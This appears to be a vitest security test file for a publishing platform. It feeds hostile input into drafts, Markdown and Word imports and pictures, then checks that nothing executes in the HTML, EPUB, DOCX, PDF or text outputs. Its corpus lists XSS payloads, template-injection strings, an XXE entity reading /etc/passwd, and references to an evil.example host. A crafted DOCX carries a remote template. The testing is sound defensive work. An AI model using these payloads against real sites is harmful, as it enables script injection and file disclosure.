import { strFromU8, unzipSync } from 'fflate'
import { parseHTML } from 'linkedom'
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs'
import { expect, test } from 'vitest'
import { sql } from '#platform/db'
import { sendFile } from '#test/papers'
import { pngOf, sendPicture } from '#test/pictures'
import { drafted } from '#test/publication-deeds'
import { useSite } from '#test/site'
import { changedWord, wordFile } from '#test/word-files'

const site = useSite()
const said = { title: 'Open ties', teaser: 'What we ask.', topics: 'china', authors: 'Cora Sample' }

/** What people have tried elsewhere: programs, handlers, addresses that run, pictures that do, notes and pieces that end too early. */
const corpus = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>press</text></a><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<a href="javascript:alert(1)">press</a> <a href="JaVaScRiPt&colon;alert(1)">press</a>',
  '[press](javascript:alert(1)) [press](data:text/html;base64,PHNjcmlwdD4=) [press](vbscript:x) [press](//evil.example/x)',
  '[press](java\tscript:alert(1)) [press](<javascript:alert(1)>) [press][1]\n\n[1]: javascript:alert(1)',
  '![x](javascript:alert(1)) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![x](https://evil.example/pixel.gif)',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="data:text/html,x"></object><embed src="x">',
  '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form><base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><template><script>alert(1)</script></template>',
  '[footnote text="&quot; onmouseover=&quot;alert(1)&quot;><script>alert(1)</script>"]',
  '[citation key="vattel1758" prefix="<script>alert(1)</script>" locator="&quot;><img src=x onerror=alert(1)>"]',
  '[evidence kind="atlas.count" reference="javascript:alert(1)" asOf="" says="<script>alert(1)</script>"]',
  '[picture id="../../x" alternative="&quot; onerror=&quot;alert(1)" caption="<script>alert(1)</script>" credit="x"]',
  '[picture id="PICTURE" alternative="&quot; onerror=&quot;alert(1)" caption="<img src=x onerror=alert(1)>" credit="</figcaption><script>alert(1)</script>"]',
  '[embed kind="atlas.record" reference="javascript:alert(1)" asOf="2030-01-01" caption="<script>alert(1)</script>"]',
  '[embed kind="atlas.map" reference="q=<script>alert(1)</script>" asOf="2030-01-01" caption="<script>alert(1)</script>"]',
  '[embed kind="atlas.map" reference="country=QQ" asOf="2030-01-01" caption="]]><script>alert(1)</script>"]',
  '#eval("1") #image("/etc/passwd") #read("/etc/passwd") `#sys.inputs` $x$ #link("javascript:alert(1)")[x]',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %> #{7*7}',
  ']]> <?xml-stylesheet href="https://evil.example/x.xsl"?> <!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]> &a; &lol9;',
]

const hostileWords = {
  title: 'Open <script>alert(1)</script> ties',
  teaser: '</p><img src=x onerror=alert(1)> ]]>',
  authors: 'Cora <svg onload=alert(1)> | " onmouseover="alert(1)',
  series: '<iframe srcdoc="x">',
}

/** Everything in a page or a part of a book that could run, or would fetch from elsewhere. */
function running(html: string): string[] {
  const { document } = parseHTML(html.replace(/^<\?xml[^>]*>/, ''))
  const found: string[] = []
  for (const element of document.querySelectorAll('*')) {
    const name = element.localName.toLowerCase()
    const isOurs = name === 'script' && /^\/assets\//.test(element.getAttribute('src') ?? '')
    if (/^(?:script|iframe|object|embed|foreignobject|base|animate|set|template|math)$/.test(name) && !isOurs)
      if (!(name === 'script' && /json/.test(element.getAttribute('type') ?? ''))) found.push(`<${name}>`)
    for (const { name: attribute, value } of element.attributes) {
      if (/^on/i.test(attribute)) found.push(`${name} ${attribute}`)
      const plain = value.replace(/[\p{Cc} ]/gu, '')
      if (/^(?:javascript|vbscript):/i.test(plain)) found.push(`${name} ${attribute}=${value}`)
      if (
        /^(?:src|srcset|data|poster|srcdoc|formaction)$/i.test(attribute) &&
        /^(?:https?:|\/\/|data:(?!image\/(?:png|jpeg|webp)))/i.test(plain)
      )
        found.push(`${name} ${attribute}=${value}`)
      if (attribute === 'href' && /^(?:data:|\/\/)/i.test(plain)) found.push(`${name} ${attribute}=${value}`)
    }
  }
  return found
}

const bytesAt = async (path: string) => {
  const answer = await site.application.fetch(
    new Request(`http://legation.test${path}`, { headers: { host: 'legation.test' } }),
  )
  return new Uint8Array(await answer.arrayBuffer())
}

/** Publishes what the draft says, and looks at it in each of its forms. */
async function expectNothingRuns(draft: string): Promise<void> {
  const [cora, visitor] = [await site.as('sample-cora'), await site.as('visitor')]
  for (const page of [draft, `${draft}/history`, `${draft}/pictures`])
    expect([page, running((await cora.get(page)).text)]).toEqual([page, []])
  const turned = await cora.post(`${draft}/turn`, { deed: 'publish' })
  expect([turned.status, turned.page.querySelector('.problem-summary, [role=alert]')?.textContent ?? '']).toEqual([
    303,
    '',
  ])
  const at = '/works/open-ties'
  expect(running((await visitor.get(at)).text)).toEqual([])
  const [kept] = await site.services.database.read((db) =>
    db.all(sql<{ address: string }>`select address from publications.archived order by kept_at desc limit 1`),
  )
  expect(running(Buffer.from(await bytesAt(`/archive/${kept?.address}`)).toString())).toEqual([])
  const book = unzipSync(await bytesAt(`${at}/work.epub`))
  for (const [name, part] of Object.entries(book))
    if (/\.(?:xhtml|opf|xml)$/.test(name)) expect([name, running(strFromU8(part))]).toEqual([name, []])
  const office = unzipSync(await bytesAt(`${at}/work.docx`))
  expect(Object.keys(office).filter((name) => /vba|activeX|embeddings|\.bin$/i.test(name))).toEqual([])
  for (const [name, part] of Object.entries(office))
    if (name.endsWith('.rels'))
      for (const [, target] of strFromU8(part).matchAll(/Target="([^"]*)" TargetMode="External"/g))
        expect([name, target]).toEqual([name, expect.stringMatching(/^(?:https?:\/\/|mailto:)/)])
  const paper = await getDocument({ data: await bytesAt(`${at}/work.pdf`) }).promise
  expect(await paper.getJSActions()).toBeNull()
  expect(await paper.getAttachments()).toBeNull()
  for (let number = 1; number <= paper.numPages; number++)
    for (const { url } of await (await paper.getPage(number)).getAnnotations())
      if (url) expect(url).toMatch(/^(?:https?:\/\/|mailto:)/)
  expect(Buffer.from(await bytesAt(`${at}/work.txt`)).toString()).not.toContain('root:')
}

test('nothing that people paste or write runs anywhere, in any form', { timeout: 120_000 }, async () => {
  const cora = await site.as('sample-cora')
  const draft = await drafted(site)
  const id = await sendPicture(site, draft)
  const sources =
    '@book{vattel1758, title={<script>alert(1)</script>}, author={Vattel}, year={1758}, url={javascript:alert(1)}}'
  await cora.post(`${draft}/references`, { deed: 'add', sources })
  const content = corpus.join('\n\n').replace('PICTURE', id)
  const saved = await cora.post(draft, { revision: '3', ...said, ...hostileWords, content })
  expect([saved.status, saved.page.querySelector('.field-error')?.textContent ?? '']).toEqual([303, ''])
  await expectNothingRuns(draft)
})

test('nothing in a file of Markdown or of Word runs, and nothing of it is fetched', { timeout: 120_000 }, async () => {
  const cora = await site.as('sample-cora')
  const draft = await drafted(site)
  const bring = async (name: string, bytes: Uint8Array) => {
    const sent = await sendFile(site, 'sample-cora', { path: `${draft}/import`, fields: {}, file: { name, bytes } })
    expect([name, sent.status]).toEqual([name, 303])
    expect([name, running((await cora.get(sent.location)).text)]).toEqual([name, []])
    expect((await cora.post(sent.location, { deed: 'append' })).status).toBe(303)
  }
  await bring('a.md', Buffer.from(corpus.filter((each) => !each.startsWith('[')).join('\n\n')))
  await bring('a.txt', Buffer.from(corpus.join('\n\n')))
  const hostile = changedWord(await wordFile(), (parts) => ({
    'word/document.xml': (parts['word/document.xml'] ?? '')
      .replace('Said later.', corpus.slice(0, 5).join(' ').replaceAll('&', '&amp;').replaceAll('<', '&lt;'))
      .replace('A quay at night', '&quot; onerror=&quot;alert(1)')
      .replace('<w:body>', '<w:body><w:altChunk r:id="rIdChunk"/>'),
    'word/_rels/document.xml.rels': (parts['word/_rels/document.xml.rels'] ?? '')
      .replace('https://example.org/ports', 'javascript:alert(1)')
      .replace(
        '</Relationships>',
        `<Relationship Id="rIdChunk" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="evil.html"/>
        <Relationship Id="rIdTemplate" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>`,
      ),
    'word/evil.html': '<script>alert(1)</script>',
  }))
  await bring('a.docx', hostile)
  await expectNothingRuns(draft)
})

test('a drawing is no picture, whatever its name says; a picture with a page behind it is sent as what it is', async () => {
  const draft = await drafted(site)
  const drawing = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
  const send = (name: string, bytes: Uint8Array) =>
    sendFile(site, 'sample-cora', {
      path: `${draft}/pictures`,
      fields: { deed: 'add', alternative: 'x' },
      file: { name, bytes },
    })
  for (const name of ['a.svg', 'a.png', 'a.jpg']) expect((await send(name, Buffer.from(drawing))).status).toBe(400)
  const both = Buffer.concat([pngOf(5, 5), Buffer.from(`<html>${drawing}`)])
  const id = /#picture-([\w-]+)/.exec((await send('a.html', both)).location)?.[1]
  const answer = await (await site.as('sample-cora')).get(`/pictures/${id}`)
  expect(answer.headers.get('content-type')).toBe('image/png')
  expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
  expect(answer.text).not.toContain('script')
})
